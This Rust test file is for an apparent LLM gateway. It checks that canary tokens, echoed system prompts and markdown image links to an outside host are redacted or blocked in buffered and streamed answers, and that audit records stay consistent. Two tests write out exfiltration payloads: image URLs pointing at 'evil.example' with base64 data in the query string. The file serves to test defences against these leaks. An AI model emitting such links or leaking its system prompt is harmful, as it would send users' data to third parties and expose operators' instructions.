//! Output-side leak checks end to end: a per-request canary in the system prompt, a repeated
//! system prompt, and a markdown image that would carry data to another host, each caught in the
//! answer (whole and streamed) before any byte of it reaches the client.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;
use common::*;

const SYSTEM: &str = "You are the billing assistant for Acme Corp. Never discuss refunds over five hundred dollars without a manager present.";

fn leak_request(served: &Served, stream: bool) -> Resp {
    let body = serde_json::json!({
        "model": "echo-small",
        "stream": stream,
        "messages": [
            {"role": "system", "content": SYSTEM},
            {"role": "user", "content": "/echo-conversation"}
        ]
    });
    request(
        served.gw,
        "POST",
        "/v1/chat/completions",
        Some(&served.key),
        &body.to_string(),
    )
}

#[test]
fn canary_and_system_prompt_echo_never_reach_the_client() {
    let dir = tempfile::tempdir().unwrap();
    let served = Served::start(dir.path(), "[inspect]\ncanary = true\n");

    let r = leak_request(&served, false);
    assert_eq!(r.status, 200, "{}", r.text());
    let answer = r.json()["choices"][0]["message"]["content"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(!answer.contains("ztai-canary-"), "canary leaked: {answer}");
    assert!(answer.contains("[CANARY_LEAK]"), "{answer}");
    assert!(
        !answer.contains("refunds over five hundred"),
        "system prompt leaked: {answer}"
    );
    assert!(answer.contains("[SYSTEM_PROMPT_ECHO]"), "{answer}");

    // Streamed, in the stand-in's small chunks: no fragment of the canary in any byte sent.
    let r = leak_request(&served, true);
    assert_eq!(r.status, 200);
    let body = r.text();
    assert!(!body.contains("ztai-canary-"), "{body}");
    assert!(!body.contains("five hundred dollars"), "{body}");
    let (text, done, error) = sse_text(&body);
    assert!(
        text.contains("[CANARY_LEAK]") && text.contains("[SYSTEM_PROMPT_ECHO]"),
        "{text}"
    );
    assert!(done && error.is_none());
}

#[test]
fn an_image_that_would_carry_data_away_is_removed_from_the_answer() {
    let dir = tempfile::tempdir().unwrap();
    let served = Served::start(
        dir.path(),
        "[inspect]\nlink_allowlist = [\"corp.example\"]\n",
    );
    let img = "https://evil.example/pixel.png?d=c2VjcmV0IHByb2plY3QgbmlnaHRqYXI";
    let allowed = "https://cdn.corp.example/pixel.png?d=c2VjcmV0IHByb2plY3QgbmlnaHRqYXI";
    let content = format!("Done ![status]({img}) and ![logo]({allowed})");
    let r = chat(served.gw, &served.key, "echo-small", &content, false);
    assert_eq!(r.status, 200, "{}", r.text());
    let answer = r.json()["choices"][0]["message"]["content"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(
        answer,
        format!("Done ![status]([MARKDOWN_IMAGE_EXFILTRATION]) and ![logo]({allowed})")
    );
    let r = chat(served.gw, &served.key, "echo-small", &content, true);
    let (text, _, _) = sse_text(&r.text());
    assert!(!text.contains("evil.example"), "{text}");
}

/// The output findings of the final record of the request `r` answered, sorted.
fn output_findings(served: &Served, r: &Resp) -> Vec<serde_json::Value> {
    let id = r.header("x-request-id").unwrap();
    let records = request(
        served.admin,
        "GET",
        "/api/v1/audit?limit=50",
        Some(&served.admin_token),
        "",
    )
    .json();
    // A stream has an "opened" record and a final one with the same id; the final one is newest.
    let rec = records["records"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["id"] == id)
        .unwrap_or_else(|| panic!("no record for {id}"));
    let mut found: Vec<serde_json::Value> = rec["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["channel"] == "output")
        .cloned()
        .collect();
    found.sort_by_key(|f| f.to_string());
    found
}

#[test]
fn streamed_and_buffered_answers_are_recorded_alike() {
    let dir = tempfile::tempdir().unwrap();
    let served = Served::start(
        dir.path(),
        "[inspect]\nlink_allowlist = [\"corp.example\"]\nblock_output = [\"leak\"]\n",
    );
    // Low-severity addresses: recorded, never redacted (below the output severity floor), so a
    // record that keeps only what it redacted would lose them.
    let plain = "Send the report to 192.0.2.10 and to 198.51.100.7 today, then close the ticket.";
    let buffered = chat(served.gw, &served.key, "echo-small", plain, false);
    let streamed = chat(served.gw, &served.key, "echo-small", plain, true);
    assert_eq!((buffered.status, streamed.status), (200, 200));
    let b = output_findings(&served, &buffered);
    assert!(
        b.iter().filter(|f| f["category"] == "pii").count() >= 2,
        "{b:?}"
    );
    assert_eq!(b, output_findings(&served, &streamed));

    // Blocked: the finding that blocked the answer is in both records, with the rest.
    let leak = "Sent to 192.0.2.10, see ![status](https://evil.example/p.png?d=c2VjcmV0IHByb2plY3Q) for more.";
    let buffered = chat(served.gw, &served.key, "echo-small", leak, false);
    assert_eq!(buffered.status, 403, "{}", buffered.text());
    let streamed = chat(served.gw, &served.key, "echo-small", leak, true);
    let (text, _, error) = sse_text(&streamed.text());
    assert!(!text.contains("evil.example"), "{text}");
    assert!(error.is_some(), "the stream ends with an error event");
    let b = output_findings(&served, &buffered);
    assert!(
        b.iter().any(|f| f["kind"] == "markdown_image_exfiltration"),
        "{b:?}"
    );
    assert!(b.iter().any(|f| f["category"] == "pii"), "{b:?}");
    assert_eq!(b, output_findings(&served, &streamed));
}
